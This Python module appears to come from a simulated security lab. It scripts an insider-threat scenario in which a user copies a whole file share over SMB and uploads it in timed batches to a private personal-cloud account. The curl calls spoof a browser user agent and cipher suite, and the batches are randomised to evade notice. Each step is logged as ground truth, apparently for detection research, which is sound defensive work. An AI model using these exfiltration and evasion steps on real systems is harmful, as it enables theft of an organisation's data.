"""The insider: no implant, no stranger; one of the company's people with one's own account.

m.keller fetches the whole share to pc-017 and sends the files, some at a time, to a private
account at a cloud that others use as well, on a day when nobody works.
"""

from __future__ import annotations

import random
import time
from collections.abc import Sequence
from pathlib import Path

from lab import clients, world
from lab.cage import STATE
from lab.rhythm import hands
from lab.steps import asked_for, on, open_entry
from lab.truth import Claim, Diary

PC, CLOUD, FILES = world.INSIDER, world.PERSONAL_CLOUD, world.FILE_SERVER
BEGINS, LASTS = 0.26, 0.30
"""When it begins and how long it takes, as shares of the recording's time."""
AT_ONCE = 4


class Insider:
    """Reading, then sending, by hand and with pauses."""

    def __init__(self, diary: Diary, lasts_s: float, seed: int) -> None:
        self._diary, self._lasts_s, self._rng = diary, lasts_s, random.Random(seed)
        self._began = time.monotonic()

    def run(self) -> None:
        """Both deeds."""
        begins = self._began + BEGINS * self._lasts_s
        time.sleep(max(0.0, begins - time.monotonic()))
        self._send(self._read())

    def _read(self) -> list[Path]:
        place = STATE / "keller"
        place.mkdir()
        claim = Claim(src=PC.ip, dst=FILES.ip, port=445, protocol="tcp")
        entry = open_entry("insider-reading", [claim], PC.name, [FILES.name])
        entry.incident = "insider"
        with hands(PC.name), self._diary.action(entry):
            script = f"lcd {place}; recurse on; prompt off; mget *"
            on(PC, *clients.smb_argv(PC.name, PC.user, script))
        files = sorted(path for path in place.rglob("*") if path.is_file())
        sizes = sum(path.stat().st_size for path in files)
        entry.detail = {"share": "projects", "files": len(files), "bytes": sizes}
        return files

    def _send(self, files: Sequence[Path]) -> None:
        claims = [Claim(src=PC.ip, dst=CLOUD.ip, port=443, protocol="tcp")]
        entry = open_entry(
            "insider-upload", claims + asked_for(CLOUD.name, PC), PC.name, [CLOUD.name]
        )
        entry.incident = "insider"
        sizes = sum(path.stat().st_size for path in files)
        entry.detail = {"files": len(files), "bytes": sizes, "account": "private"}
        pause_s = LASTS * self._lasts_s / (len(files) / AT_ONCE)
        with self._diary.action(entry):
            for first in range(0, len(files), AT_ONCE):
                self._batch(files[first : first + AT_ONCE])
                time.sleep(pause_s * self._rng.uniform(0.4, 1.3))

    def _batch(self, files: Sequence[Path]) -> None:
        argv = [*clients.CURL, "-A", clients.BROWSER, "--ciphers", clients.BROWSER_CIPHERS]
        argv += ["-H", "Expect:"]
        for path in files:
            argv += ["-T", str(path), f"https://{CLOUD.name}/u/mk1984/files/{path.name}"]
        on(PC, *argv)
